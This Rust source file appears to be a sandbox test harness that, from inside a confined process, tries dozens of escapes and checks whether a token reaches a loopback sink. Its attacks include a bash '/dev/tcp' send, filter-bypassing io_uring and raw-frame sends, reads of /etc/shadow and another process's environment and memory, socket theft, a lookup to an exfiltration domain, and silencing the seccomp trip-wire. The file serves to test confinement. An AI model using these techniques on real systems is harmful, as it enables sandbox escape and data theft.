//! Ways out of a process, each tried for real. `run_all` runs inside the process under test.
//!
//! What counts is what reaches the sink; an attack's own result says only whether the kernel let it through.
//! Each runs in a thread of its own: threads that start late are covered too, and an attack that changes its
//! thread (a namespace, a personality) changes no other.
#![expect(unsafe_code, reason = "attacks are raw system calls")]

use std::ffi::CString;
use std::io;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::thread;

use serde::{Deserialize, Serialize};

/// Stands before the attack's name in everything that is sent.
pub(crate) const TOKEN: &str = "BAILIWICK-TOKEN:";

/// Where the attacks aim.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub(crate) struct AttackTargets {
    /// TCP and UDP, IPv4 and IPv6, on loopback.
    pub(crate) port: u16,
    pub(crate) unix_stream: PathBuf,
    pub(crate) unix_datagram: PathBuf,
    pub(crate) unix_abstract: String,
    /// A process of the same user, whose descriptor 0 is a connection to the sink.
    pub(crate) victim: i32,
    /// An address in its memory.
    pub(crate) victim_address: u64,
    /// The server's writable folder, with a planted link `planted` to `outside/secret`.
    pub(crate) data: PathBuf,
    /// A folder that the server has no business in, with a file `secret`.
    pub(crate) outside: PathBuf,
}

/// What the kernel said to one attack.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub(crate) struct Outcome {
    pub(crate) name: String,
    /// `None`: it went through.
    pub(crate) refused: Option<String>,
}

/// Tries everything. `bait`: the peer's port of a connection that may be destroyed; `None`: any connection.
pub(crate) fn run_all(targets: &AttackTargets, bait: Option<u16>) -> Vec<Outcome> {
    ATTACKS
        .iter()
        .map(|(name, attack)| {
            let shot = Shot {
                targets: targets.clone(),
                bait,
                token: format!("{TOKEN}{name}\n"),
            };
            let result = thread::Builder::new()
                .spawn(move || attack(&shot))
                .unwrap()
                .join()
                .unwrap();
            Outcome {
                name: (*name).to_owned(),
                refused: result.err().map(|error| error.to_string()),
            }
        })
        .collect()
}

/// One attack's equipment.
struct Shot {
    targets: AttackTargets,
    bait: Option<u16>,
    token: String,
}

type Attack = fn(&Shot) -> io::Result<()>;

const ATTACKS: &[(&str, Attack)] = &[
    ("tcp4", |s| {
        connect_and_write(libc::AF_INET, libc::SOCK_STREAM, 0, &s.v4(), s)
    }),
    ("tcp6", |s| {
        connect_and_write(libc::AF_INET6, libc::SOCK_STREAM, 0, &s.v6(), s)
    }),
    ("tcp through std", tcp_std),
    ("mptcp", |s| {
        connect_and_write(libc::AF_INET, libc::SOCK_STREAM, 262, &s.v4(), s)
    }),
    ("sctp", |s| {
        connect_and_write(
            libc::AF_INET,
            libc::SOCK_STREAM,
            libc::IPPROTO_SCTP,
            &s.v4(),
            s,
        )
    }),
    ("dccp", |s| {
        connect_and_write(libc::AF_INET, 6, 33, &s.v4(), s)
    }),
    ("fast open by sendto", |s| {
        send_to(
            libc::AF_INET,
            libc::SOCK_STREAM,
            0,
            libc::MSG_FASTOPEN,
            &s.v4(),
            s,
        )
    }),
    ("fast open by option", fast_open_option),
    ("udp4 sendto", |s| {
        send_to(libc::AF_INET, libc::SOCK_DGRAM, 0, 0, &s.v4(), s)
    }),
    ("udp6 sendto", |s| {
        send_to(libc::AF_INET6, libc::SOCK_DGRAM, 0, 0, &s.v6(), s)
    }),
    ("udp4 connect", |s| {
        connect_and_write(libc::AF_INET, libc::SOCK_DGRAM, 0, &s.v4(), s)
    }),
    ("udp6 connect", |s| {
        connect_and_write(libc::AF_INET6, libc::SOCK_DGRAM, 0, &s.v6(), s)
    }),
    ("udp sendmsg", |s| send_message(s, libc::SYS_sendmsg)),
    ("udp sendmmsg", |s| send_message(s, libc::SYS_sendmmsg)),
    ("name lookup", name_lookup),
    ("unix path", |s| {
        connect_and_write(
            libc::AF_UNIX,
            libc::SOCK_STREAM,
            0,
            &unix(&s.targets.unix_stream),
            s,
        )
    }),
    ("unix abstract", |s| {
        connect_and_write(libc::AF_UNIX, libc::SOCK_STREAM, 0, &s.abstract_name(), s)
    }),
    ("unix datagram", |s| {
        send_to(
            libc::AF_UNIX,
            libc::SOCK_DGRAM,
            0,
            0,
            &unix(&s.targets.unix_datagram),
            s,
        )
    }),
    ("io_uring", io_uring),
    ("raw ip", |s| {
        send_to(
            libc::AF_INET,
            libc::SOCK_RAW,
            libc::IPPROTO_ICMP,
            0,
            &s.v4(),
            s,
        )
    }),
    ("packet frame", packet_frame),
    ("netlink", |_| {
        open_socket(libc::AF_NETLINK, libc::SOCK_RAW, 0)
    }),
    ("vsock", |_| {
        open_socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)
    }),
    ("alg", |_| {
        open_socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)
    }),
    ("xdp", |_| open_socket(libc::AF_XDP, libc::SOCK_RAW, 0)),
    ("bluetooth", |_| {
        open_socket(libc::AF_BLUETOOTH, libc::SOCK_RAW, 1)
    }),
    ("accepted socket turned round", turn_accepted_round),
    ("another listener", listener),
    ("listen with automatic bind", auto_bind),
    ("socketpair", |_| {
        let mut pair = [0_i32; 2];
        call(
            libc::SYS_socketpair,
            [libc::AF_UNIX.into(), 1, 0, address_mut(&mut pair), 0, 0],
        )
        .map(close_pair(pair))
    }),
    ("exec a shell", exec_shell),
    ("fork and connect", fork_connect),
    ("posix_spawn", |_| program("/bin/true")),
    ("program in memory", memory_program),
    ("execveat", |_| {
        in_child(|| {
            drop(call(
                libc::SYS_execveat,
                [-100, c"/bin/true".as_ptr() as i64, 0, 0, 0, 0],
            ))
        })
    }),
    ("ptrace", |s| {
        call(libc::SYS_ptrace, [0x4206, s.victim(), 0, 0, 0, 0]).map(drop)
    }),
    ("read another's memory", |s| {
        vm(s, libc::SYS_process_vm_readv).map(drop)
    }),
    ("write another's memory", |s| {
        vm(s, libc::SYS_process_vm_writev).map(drop)
    }),
    ("steal a socket", steal_socket),
    ("write /proc/pid/mem", |s| {
        write_open(&format!("/proc/{}/mem", s.targets.victim))
    }),
    ("read /proc/pid/environ", |s| {
        std::fs::read(format!("/proc/{}/environ", s.targets.victim)).map(drop)
    }),
    ("signal another", |s| {
        call(libc::SYS_kill, [s.victim(), 0, 0, 0, 0, 0]).map(drop)
    }),
    ("signal another's thread", |s| {
        call(libc::SYS_tgkill, [s.victim(), s.victim(), 0, 0, 0, 0]).map(drop)
    }),
    ("unshare", |_| {
        call(
            libc::SYS_unshare,
            [libc::CLONE_NEWUTS.into(), 0, 0, 0, 0, 0],
        )
        .map(drop)
    }),
    ("setns", set_namespace),
    ("read /etc/shadow", |_| {
        std::fs::read("/etc/shadow").map(drop)
    }),
    ("read /proc/net/tcp", |_| {
        std::fs::read("/proc/net/tcp").map(drop)
    }),
    ("read outside", |s| {
        std::fs::read(s.targets.outside.join("secret")).map(drop)
    }),
    ("write outside", |s| {
        std::fs::write(s.targets.outside.join("leak"), &s.token)
    }),
    ("write /tmp", |_| {
        std::fs::write("/tmp/bailiwick-attack", "x")
            .and_then(|()| std::fs::remove_file("/tmp/bailiwick-attack"))
    }),
    ("list /", |_| std::fs::read_dir("/").map(drop)),
    ("truncate outside", |s| {
        call(
            libc::SYS_truncate,
            [
                path(&s.targets.outside.join("secret")).as_ptr() as i64,
                6,
                0,
                0,
                0,
                0,
            ],
        )
        .map(drop)
    }),
    ("truncate while reading", truncating_read),
    ("through a planted link", |s| {
        std::fs::read(s.targets.data.join("planted")).map(drop)
    }),
    ("make a symbolic link", |s| {
        std::os::unix::fs::symlink("/etc/shadow", s.targets.data.join("made"))
    }),
    ("make a hard link in", |s| {
        std::fs::hard_link(
            s.targets.outside.join("secret"),
            s.targets.data.join("linked"),
        )
    }),
    ("rename out", rename_out),
    ("make a socket file", |s| make_node(s, libc::S_IFSOCK)),
    ("make a pipe", |s| make_node(s, libc::S_IFIFO)),
    ("open by handle", open_by_handle),
    ("bpf", |_| {
        call(
            libc::SYS_bpf,
            [
                0,
                address(&[2_u32, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
                72,
                0,
                0,
                0,
            ],
        )
        .map(close)
    }),
    ("perf_event_open", |_| {
        call(
            libc::SYS_perf_event_open,
            [
                address(&[
                    1_u32, 128, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                    0, 0, 0, 0, 0, 0, 0, 0,
                ]),
                0,
                -1,
                -1,
                0,
                0,
            ],
        )
        .map(close)
    }),
    ("userfaultfd", |_| {
        call(libc::SYS_userfaultfd, [1, 0, 0, 0, 0, 0]).map(close)
    }),
    ("keyctl", |_| {
        call(libc::SYS_keyctl, [0, -3, 0, 0, 0, 0]).map(drop)
    }),
    ("message queue", |_| {
        call(libc::SYS_msgget, [0, 0o600, 0, 0, 0, 0])
            .and_then(|id| call(libc::SYS_msgctl, [id, 0, 0, 0, 0, 0]))
            .map(drop)
    }),
    ("shared memory", |_| {
        call(libc::SYS_shmget, [0, 4096, 0o600, 0, 0, 0])
            .and_then(|id| call(libc::SYS_shmctl, [id, 0, 0, 0, 0, 0]))
            .map(drop)
    }),
    ("posix message queue", |_| {
        call(
            libc::SYS_mq_open,
            [c"bailiwick".as_ptr() as i64, 0o102, 0o600, 0, 0, 0],
        )
        .and_then(|queue| {
            close(queue);
            call(
                libc::SYS_mq_unlink,
                [c"bailiwick".as_ptr() as i64, 0, 0, 0, 0, 0],
            )
            .map(drop)
        })
    }),
    ("inotify", |_| {
        call(libc::SYS_inotify_init1, [0; 6]).map(close)
    }),
    ("fanotify", |_| {
        call(libc::SYS_fanotify_init, [0; 6]).map(close)
    }),
    ("mount", |_| {
        call(
            libc::SYS_mount,
            [
                c"none".as_ptr() as i64,
                c"/nowhere".as_ptr() as i64,
                c"tmpfs".as_ptr() as i64,
                0,
                0,
                0,
            ],
        )
        .map(drop)
    }),
    ("chroot", |_| {
        call(libc::SYS_chroot, [c"/".as_ptr() as i64, 0, 0, 0, 0, 0]).map(drop)
    }),
    ("pivot_root", |_| {
        call(
            libc::SYS_pivot_root,
            [
                c"/nowhere".as_ptr() as i64,
                c"/nowhere".as_ptr() as i64,
                0,
                0,
                0,
                0,
            ],
        )
        .map(drop)
    }),
    ("quotactl", |_| {
        call(libc::SYS_quotactl, [-1, 0, 0, 0, 0, 0]).map(drop)
    }),
    ("load a module", |_| {
        call(libc::SYS_finit_module, [-1, 0, 0, 0, 0, 0]).map(drop)
    }),
    ("kexec", |_| {
        call(libc::SYS_kexec_load, [0, 99, 0, 0xffff, 0, 0]).map(drop)
    }),
    ("type into a terminal", |_| {
        call(libc::SYS_ioctl, [0, 0x5412, c"x".as_ptr() as i64, 0, 0, 0]).map(drop)
    }),
    ("executable memory", |_| {
        map(libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC).map(drop)
    }),
    ("memory made executable", |_| {
        map(libc::PROT_READ | libc::PROT_WRITE)
            .and_then(|page| call(libc::SYS_mprotect, [page, 4096, 5, 0, 0, 0]))
            .map(drop)
    }),
    ("personality", |_| {
        call(libc::SYS_personality, [0x0040_0000, 0, 0, 0, 0, 0]).map(drop)
    }),
    ("another filter", |_| {
        call(
            libc::SYS_seccomp,
            [
                1,
                0,
                address(&(1_u64, address(&[6_u16, 0, 0, 0x7fff]))),
                0,
                0,
                0,
            ],
        )
        .map(drop)
    }),
    ("dumpable again", |_| {
        call(
            libc::SYS_prctl,
            [libc::PR_SET_DUMPABLE.into(), 1, 0, 0, 0, 0],
        )
        .map(drop)
    }),
    ("silence the trip-wire", |_| {
        call(libc::SYS_rt_sigaction, [libc::SIGSYS.into(), 0, 0, 8, 0, 0]).map(drop)
    }),
    ("x32 socket", |_| {
        call(libc::SYS_socket | 0x4000_0000, [2, 1, 0, 0, 0, 0]).map(close)
    }),
    ("pipe to nowhere", |_| {
        let mut pair = [0_i32; 2];
        call(libc::SYS_pipe2, [address_mut(&mut pair), 0, 0, 0, 0, 0]).map(close_pair(pair))
    }),
];

impl Shot {
    fn v4(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_INET);
        bytes.extend(self.targets.port.to_be_bytes());
        bytes.extend([127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
        bytes
    }

    fn v6(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_INET6);
        bytes.extend(self.targets.port.to_be_bytes());
        bytes.extend([0; 4]);
        bytes.extend(std::net::Ipv6Addr::LOCALHOST.octets());
        bytes.extend([0; 4]);
        bytes
    }

    fn abstract_name(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_UNIX);
        bytes.push(0);
        bytes.extend(self.targets.unix_abstract.as_bytes());
        bytes
    }

    fn victim(&self) -> i64 {
        self.targets.victim.into()
    }
}

fn family(family: i32) -> Vec<u8> {
    u16::try_from(family).unwrap().to_ne_bytes().to_vec()
}

fn unix(path: &Path) -> Vec<u8> {
    let mut bytes = family(libc::AF_UNIX);
    bytes.extend(path.as_os_str().as_bytes());
    bytes.push(0);
    bytes
}

fn path(path: &Path) -> CString {
    CString::new(path.as_os_str().as_bytes()).unwrap()
}

/// A raw call. Addresses among the arguments are of values that the caller keeps alive.
fn call(number: i64, a: [i64; 6]) -> io::Result<i64> {
    // SAFETY: as said above; the process under test is thrown away afterwards.
    let result = unsafe { libc::syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]) };
    if result < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(result)
    }
}

fn address<T: ?Sized>(value: &T) -> i64 {
    std::ptr::from_ref(value).cast::<u8>() as i64
}

fn address_mut<T: ?Sized>(value: &mut T) -> i64 {
    std::ptr::from_mut(value).cast::<u8>() as i64
}

fn length<T>(values: &[T]) -> i64 {
    i64::try_from(values.len()).unwrap()
}

fn close(fd: i64) {
    let _closed = call(libc::SYS_close, [fd, 0, 0, 0, 0, 0]);
}

fn close_pair(pair: [i32; 2]) -> impl FnOnce(i64) {
    move |_| {
        pair.into_iter()
            .map(i64::from)
            .filter(|fd| *fd > 2)
            .for_each(close)
    }
}

fn socket(family: i32, kind: i32, protocol: i32) -> io::Result<i64> {
    call(
        libc::SYS_socket,
        [family.into(), kind.into(), protocol.into(), 0, 0, 0],
    )
}

fn open_socket(family: i32, kind: i32, protocol: i32) -> io::Result<()> {
    socket(family, kind, protocol).map(close)
}

fn with_socket(fd: i64, attack: impl FnOnce(i64) -> io::Result<i64>) -> io::Result<()> {
    let result = attack(fd);
    close(fd);
    result.map(drop)
}

fn write(fd: i64, token: &str) -> io::Result<i64> {
    call(
        libc::SYS_write,
        [fd, address(token), length(token.as_bytes()), 0, 0, 0],
    )
}

fn connect(fd: i64, to: &[u8]) -> io::Result<i64> {
    call(libc::SYS_connect, [fd, address(to), length(to), 0, 0, 0])
}

fn connect_and_write(family: i32, kind: i32, protocol: i32, to: &[u8], s: &Shot) -> io::Result<()> {
    with_socket(socket(family, kind, protocol)?, |fd| {
        connect(fd, to).and_then(|_| write(fd, &s.token))
    })
}

fn send_to(
    family: i32,
    kind: i32,
    protocol: i32,
    flags: i32,
    to: &[u8],
    s: &Shot,
) -> io::Result<()> {
    with_socket(socket(family, kind, protocol)?, |fd| {
        let token = s.token.as_bytes();
        call(
            libc::SYS_sendto,
            [
                fd,
                address(token),
                length(token),
                flags.into(),
                address(to),
                length(to),
            ],
        )
    })
}

#[expect(
    clippy::disallowed_types,
    clippy::disallowed_methods,
    reason = "this is the attack"
)]
fn tcp_std(s: &Shot) -> io::Result<()> {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", s.targets.port))?;
    io::Write::write_all(&mut stream, s.token.as_bytes())
}

fn fast_open_option(s: &Shot) -> io::Result<()> {
    const TCP_FASTOPEN_CONNECT: i64 = 30;
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(
            libc::SYS_setsockopt,
            [
                fd,
                libc::IPPROTO_TCP.into(),
                TCP_FASTOPEN_CONNECT,
                address(&1_i32),
                4,
                0,
            ],
        )?;
        connect(fd, &s.v4()).and_then(|_| write(fd, &s.token))
    })
}

fn send_message(s: &Shot, number: i64) -> io::Result<()> {
    let to = s.v4();
    let part = [address(s.token.as_bytes()), length(s.token.as_bytes())];
    // `struct mmsghdr` begins with a `struct msghdr`, so one layout serves both calls.
    let message = [
        address(to.as_slice()),
        length(&to),
        address(&part),
        1,
        0,
        0,
        0,
        0,
    ];
    let count = i64::from(number == libc::SYS_sendmmsg);
    with_socket(socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?, |fd| {
        call(number, [fd, address(&message), count, 0, 0, 0])
    })
}

fn name_lookup(_: &Shot) -> io::Result<()> {
    use std::net::ToSocketAddrs;
    ("token.exfiltration.example", 80)
        .to_socket_addrs()
        .map(drop)
}

/// SOCKET, CONNECT and SEND through a ring: no filter sees the operations.
fn io_uring(s: &Shot) -> io::Result<()> {
    const SOCKET: u8 = 45;
    const CONNECT: u8 = 16;
    const SEND: u8 = 26;
    let mut parameters = [0_u32; 30];
    let ring = call(
        libc::SYS_io_uring_setup,
        [8, address_mut(&mut parameters), 0, 0, 0, 0],
    )?;
    let shared = |length: i64, offset: i64| {
        let flags = i64::from(libc::MAP_SHARED | libc::MAP_POPULATE);
        call(libc::SYS_mmap, [0, length, 3, flags, ring, offset])
    };
    let rings = shared(8192, 0)?;
    let entries = shared(4096, 0x1000_0000)?;
    let submit =
        |operation: u8, fd: i64, pointer: i64, length: i64, offset: i64| -> io::Result<i64> {
            let word = |offset: u32| (rings + i64::from(offset)) as *mut u32;
            // Offsets of tail, mask and array in the submission ring, of head, mask and entries in the other.
            let [tail, mask, array] = [11, 12, 16].map(|at| word(parameters[at]));
            let [head, done_mask, done] = [20, 21, 25].map(|at| word(parameters[at]));
            // SAFETY: the offsets are the kernel's own, inside the mappings made above.
            unsafe {
                let index = *tail & *mask;
                let entry = (entries + i64::from(index) * 64) as *mut u8;
                entry.write_bytes(0, 64);
                entry.write(operation);
                entry.add(4).cast::<i32>().write(i32::try_from(fd).unwrap());
                entry.add(8).cast::<i64>().write(offset);
                entry.add(16).cast::<i64>().write(pointer);
                entry
                    .add(24)
                    .cast::<u32>()
                    .write(u32::try_from(length).unwrap());
                array.add(index as usize).write(index);
                std::sync::atomic::fence(std::sync::atomic::Ordering::SeqCst);
                tail.write_volatile(*tail + 1);
                call(libc::SYS_io_uring_enter, [ring, 1, 1, 1, 0, 0])?;
                let finished = done.cast::<u8>().add((*head & *done_mask) as usize * 16);
                let result = finished.add(8).cast::<i32>().read_volatile();
                head.write_volatile(*head + 1);
                if result < 0 {
                    Err(io::Error::from_raw_os_error(-result))
                } else {
                    Ok(result.into())
                }
            }
        };
    let to = s.v4();
    let socket = submit(SOCKET, libc::AF_INET.into(), 0, 0, libc::SOCK_STREAM.into())?;
    submit(CONNECT, socket, address(to.as_slice()), 0, length(&to))?;
    submit(
        SEND,
        socket,
        address(s.token.as_bytes()),
        length(s.token.as_bytes()),
        0,
    )?;
    close(socket);
    close(ring);
    Ok(())
}

/// A hand-made IPv4 and UDP frame: it passes no hook of the IP output path.
fn packet_frame(s: &Shot) -> io::Result<()> {
    let token = s.token.as_bytes();
    let total = u16::try_from(28 + token.len()).unwrap().to_be_bytes();
    let mut frame = vec![
        0x45, 0, total[0], total[1], 0, 1, 0, 0, 64, 17, 0, 0, 127, 0, 0, 1, 127, 0, 0, 1,
    ];
    let words = frame
        .chunks_exact(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum: u32 = words.sum();
    let sum = !u16::try_from((sum & 0xffff) + (sum >> 16)).unwrap();
    frame[10..12].copy_from_slice(&sum.to_be_bytes());
    frame.extend(40000_u16.to_be_bytes());
    frame.extend(s.targets.port.to_be_bytes());
    frame.extend(u16::try_from(8 + token.len()).unwrap().to_be_bytes());
    frame.extend([0, 0]);
    frame.extend(token);
    let mut to = family(libc::AF_PACKET);
    to.extend(0x0800_u16.to_be_bytes());
    to.extend(1_i32.to_ne_bytes());
    to.extend([0, 0, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0]);
    let protocol = i32::from(0x0800_u16.to_be());
    with_socket(socket(libc::AF_PACKET, libc::SOCK_DGRAM, protocol)?, |fd| {
        call(
            libc::SYS_sendto,
            [
                fd,
                address(frame.as_slice()),
                length(&frame),
                0,
                address(to.as_slice()),
                length(&to),
            ],
        )
    })
}

/// An accepted connection is a socket already: unconnect it, then connect it to the sink.
fn turn_accepted_round(s: &Shot) -> io::Result<()> {
    let accepted = (3..1024).find(|fd| {
        let mut peer = [0_u8; 28];
        let mut size = 28_u32;
        let named = call(
            libc::SYS_getpeername,
            [*fd, address_mut(&mut peer), address_mut(&mut size), 0, 0, 0],
        );
        let port = u16::from_be_bytes([peer[2], peer[3]]);
        named.is_ok()
            && peer[..2] == family(libc::AF_INET)[..]
            && s.bait.is_none_or(|bait| bait == port)
    });
    let Some(fd) = accepted else {
        panic!("no accepted connection to turn round: the attack was not tried");
    };
    // Its owner closes the descriptor when the peer's end is gone; a duplicate stays.
    let fd = call(
        libc::SYS_fcntl,
        [fd, libc::F_DUPFD_CLOEXEC.into(), 3, 0, 0, 0],
    )?;
    connect(fd, &[0; 16])?;
    let flags = call(libc::SYS_fcntl, [fd, libc::F_GETFL.into(), 0, 0, 0, 0])?;
    call(
        libc::SYS_fcntl,
        [
            fd,
            libc::F_SETFL.into(),
            flags & !i64::from(libc::O_NONBLOCK),
            0,
            0,
            0,
        ],
    )?;
    connect(fd, &s.v4())
        .and_then(|_| write(fd, &s.token))
        .map(drop)
}

fn listener(s: &Shot) -> io::Result<()> {
    let mut here = s.v4();
    here[2..4].copy_from_slice(&[0, 0]);
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(
            libc::SYS_bind,
            [fd, address(here.as_slice()), length(&here), 0, 0, 0],
        )?;
        call(libc::SYS_listen, [fd, 1, 0, 0, 0, 0])
    })
}

fn auto_bind(_: &Shot) -> io::Result<()> {
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(libc::SYS_listen, [fd, 1, 0, 0, 0, 0])
    })
}

#[expect(clippy::disallowed_methods, reason = "this is the attack")]
fn exec_shell(s: &Shot) -> io::Result<()> {
    let script = format!(
        "echo '{}' > /dev/tcp/127.0.0.1/{}",
        s.token.trim(),
        s.targets.port
    );
    let status = std::process::Command::new("/bin/bash")
        .arg("-c")
        .arg(script)
        .status()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other("the shell could not connect"))
    }
}

#[expect(clippy::disallowed_methods, reason = "this is the attack")]
fn program(path: &str) -> io::Result<()> {
    std::process::Command::new(path).status().map(drop)
}

/// Runs raw calls in a child, which ends at once. It goes through when the child could start.
fn in_child(attack: impl FnOnce()) -> io::Result<()> {
    let child = call(libc::SYS_clone, [libc::SIGCHLD.into(), 0, 0, 0, 0, 0])?;
    if child == 0 {
        attack();
        let _ends = call(libc::SYS_exit_group, [0; 6]);
    }
    call(libc::SYS_wait4, [child, 0, 0, 0, 0, 0]).map(drop)
}

fn fork_connect(s: &Shot) -> io::Result<()> {
    let to = s.v4();
    in_child(|| {
        let sent = socket(libc::AF_INET, libc::SOCK_STREAM, 0)
            .and_then(|fd| connect(fd, &to).and_then(|_| write(fd, &s.token)));
        drop(sent);
    })
}

fn memory_program(_: &Shot) -> io::Result<()> {
    let file = call(
        libc::SYS_memfd_create,
        [c"x".as_ptr() as i64, 0, 0, 0, 0, 0],
    )?;
    let code = std::fs::read("/bin/true")?;
    call(
        libc::SYS_write,
        [file, address(code.as_slice()), length(&code), 0, 0, 0],
    )?;
    in_child(|| {
        drop(call(
            libc::SYS_execveat,
            [
                file,
                c"".as_ptr() as i64,
                0,
                0,
                libc::AT_EMPTY_PATH.into(),
                0,
            ],
        ))
    })
}

fn vm(s: &Shot, number: i64) -> io::Result<i64> {
    let mut bytes = [0_u8; 8];
    let here = [address_mut(&mut bytes), 8];
    let there = [s.targets.victim_address.cast_signed(), 8];
    // Writing: first read, so that the victim's memory stays as it is.
    let reading = call(
        libc::SYS_process_vm_readv,
        [s.victim(), address(&here), 1, address(&there), 1, 0],
    );
    if number == libc::SYS_process_vm_readv {
        return reading;
    }
    call(
        number,
        [s.victim(), address(&here), 1, address(&there), 1, 0],
    )
}

fn steal_socket(s: &Shot) -> io::Result<()> {
    let process = call(libc::SYS_pidfd_open, [s.victim(), 0, 0, 0, 0, 0])?;
    let stolen = call(libc::SYS_pidfd_getfd, [process, 0, 0, 0, 0, 0])?;
    with_socket(stolen, |fd| write(fd, &s.token))
}

fn write_open(path: &str) -> io::Result<()> {
    std::fs::OpenOptions::new().write(true).open(path).map(drop)
}

fn set_namespace(s: &Shot) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let namespace = std::fs::File::open(format!("/proc/{}/ns/uts", s.targets.victim))?;
    call(
        libc::SYS_setns,
        [namespace.as_raw_fd().into(), 0, 0, 0, 0, 0],
    )
    .map(drop)
}

fn truncating_read(s: &Shot) -> io::Result<()> {
    let file = path(&s.targets.outside.join("secret"));
    let flags = i64::from(libc::O_RDONLY | libc::O_TRUNC);
    call(
        libc::SYS_openat,
        [-100, file.as_ptr() as i64, flags, 0, 0, 0],
    )?;
    std::fs::write(s.targets.outside.join("secret"), "secret")
}

fn rename_out(s: &Shot) -> io::Result<()> {
    let from = s.targets.data.join("to-rename");
    std::fs::write(&from, "x")?;
    std::fs::rename(from, s.targets.outside.join("renamed"))
}

fn make_node(s: &Shot, kind: u32) -> io::Result<()> {
    let node = path(&s.targets.data.join(format!("node-{kind:o}")));
    call(
        libc::SYS_mknodat,
        [-100, node.as_ptr() as i64, i64::from(kind | 0o600), 0, 0, 0],
    )
    .map(drop)
}

fn open_by_handle(s: &Shot) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let file = path(&s.targets.outside.join("secret"));
    let mut handle = [0_u32; 34];
    handle[0] = 128;
    let mut mount = 0_i32;
    let names = [
        -100,
        file.as_ptr() as i64,
        address_mut(&mut handle),
        address_mut(&mut mount),
        0,
        0,
    ];
    call(libc::SYS_name_to_handle_at, names)?;
    let folder = std::fs::File::open(&s.targets.data)?;
    call(
        libc::SYS_open_by_handle_at,
        [folder.as_raw_fd().into(), address(&handle), 0, 0, 0, 0],
    )
    .map(close)
}

fn map(protection: i32) -> io::Result<i64> {
    let kind = i64::from(libc::MAP_PRIVATE | libc::MAP_ANONYMOUS);
    call(libc::SYS_mmap, [0, 4096, protection.into(), kind, -1, 0])
}
